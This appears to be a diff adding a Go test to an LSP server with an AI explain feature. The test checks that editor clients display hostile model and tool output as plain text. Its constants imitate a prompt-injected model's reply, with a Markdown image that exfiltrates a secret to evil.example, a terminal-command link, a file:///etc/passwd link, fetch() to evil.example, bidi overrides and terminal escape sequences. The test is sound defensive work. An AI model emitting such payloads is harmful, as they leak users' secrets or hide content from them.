@@ -1,0 +1,107 @@
+package lsp_test
+
+import (
+	"context"
+	"encoding/json"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"quarry/agent"
+	"quarry/index/visible"
+	"quarry/lsp/lsptest"
+)
+
+var updateHostile = flag.Bool("update-hostile", false, "write testdata/hostile anew")
+
+// What a model says that a comment has talked into it, and what a tool says of a
+// hostile line.
+const (
+	hostileWords = "It is `foo`, see b.go:2-2, so a[i] < b.\n\n" +
+		"![pixel](https://evil.example/p.png?d=secretThing42) [run](command:workbench.action.terminal.new) <img src=\"https://evil.example/q.png\">\n" +
+		"[open](file:///etc/passwd) www.evil.example <https://evil.example/auto> &#x202e;\n\n" +
+		"|a|b|\n|-|-|\n`x | ![i](https://evil.example/cell) |`\n\n[ref]: https://evil.example/ref\n[ref] \u202e\x1b[2J\u200b\n\n" +
+		"```js\nfetch(\"https://evil.example\") // \u2066\n"
+	hostileMessage = "undefined: foo ![x](https://evil.example/tool.png) <b> \u202e\x1b]52;c;eA==\a\n# heading [a](https://evil.example)"
+)
+
+// A9: a model's and a tool's words are shown as text, in each client's own way. The
+// goldens are what the client gets to show.
+func TestHostileWordsAreShownAsText(t *testing.T) {
+	plainText := func(o *lsptest.Options) { // takes no Markdown, shows no documents
+		var caps map[string]map[string]any
+		if err := json.Unmarshal(o.Profile.Capabilities, &caps); err != nil {
+			t.Fatal(err)
+		}
+		caps["textDocument"]["hover"] = map[string]any{"contentFormat": []string{"plaintext"}}
+		delete(caps["window"], "showDocument")
+		var err error
+		if o.Profile.Capabilities, err = json.Marshal(caps); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for name, client := range map[string]struct {
+		profile string
+		change  []func(*lsptest.Options)
+	}{
+		"vscode": {profile: "vscode"}, "neovim": {profile: "neovim"}, "helix": {profile: "helix"}, "plain": {profile: "neovim", change: []func(*lsptest.Options){plainText}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := &core{indexed: true}
+			c.explain = func(_ context.Context, _ agent.Problem, emit func(string) bool) (agent.Explanation, error) {
+				emit(hostileWords)
+				return agent.Explanation{Text: hostileWords, Confidence: agent.High, Citations: []agent.Citation{{Path: "b![y](http://e.example).go", StartLine: 2, EndLine: 2}}}, nil
+			}
+			e := edit(t, client.profile, c, client.change...)
+			b := problemAt(t, e, "a.go")
+			b.Diagnostics[0].Message = hostileMessage
+			b.Diagnostics[0].Source = "tool <img src=x>"
+			list := actions(t, e, b, b.Cursor, b.Cursor)
+			if err := e.Choose(soon(t), named(t, list, "Explain")); err != nil {
+				t.Fatal(err)
+			}
+			ended(t, e, "explained")
+			hover, err := e.Hover(soon(t), b, b.Cursor)
+			if err != nil {
+				t.Fatal(err)
+			}
+			page := strings.Join(e.Shown(), "\n")
+			if name != "plain" {
+				// A virtual document is read anew when the client has been told of it.
+				if err := e.Await(soon(t), func() bool {
+					page, err = e.Page()
+					return err != nil || strings.Contains(page, "Confidence")
+				}); err != nil {
+					t.Fatal(err)
+				}
+				if err != nil {
+					t.Fatal(err)
+				}
+			}
+			got := "titles:\n" + strings.Join(titles(list), "\n") + "\n\nhover:\n" + hover + "\npage or message:\n" + page + "\n"
+			if i := strings.IndexFunc(got, visible.Hidden); i >= 0 {
+				t.Errorf("something hides: %q", got[i:])
+			}
+			golden := filepath.Join("testdata", "hostile", name+".golden")
+			if *updateHostile {
+				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(golden)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(string(want), got); diff != "" {
+				t.Errorf("%s (-want +got), go test ./lsp -run Hostile -update-hostile writes it:\n%s", golden, diff)
+			}
+		})
+	}
+}
